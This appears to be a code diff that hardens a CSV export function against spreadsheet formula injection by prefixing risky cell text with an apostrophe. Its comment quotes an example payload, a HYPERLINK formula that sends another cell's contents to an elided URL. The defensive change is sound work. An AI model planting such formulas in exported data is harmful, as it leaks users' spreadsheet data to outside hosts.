@@ -150,10 +150,18 @@ def write_records(records: Iterable[dict[str, Any]], fmt: str, out: IO[str]) -> 
     return count
 
 
+# A spreadsheet reads a cell that opens on one of these as a formula: an article's title such as
+# '=HYPERLINK("http://…?"&A2)' would run when a user opens the export. OWASP's advice is to
+# prefix such text with an apostrophe, which spreadsheets show as text and do not display.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _cell(value: Any) -> Any:
-    """CSV cells: lists and objects as compact JSON, everything else as is."""
+    """CSV cells: lists and objects as compact JSON, text that would start a formula defused."""
     if isinstance(value, list | dict):
-        return json.dumps(value, ensure_ascii=False)
+        value = json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
     return value
 
 
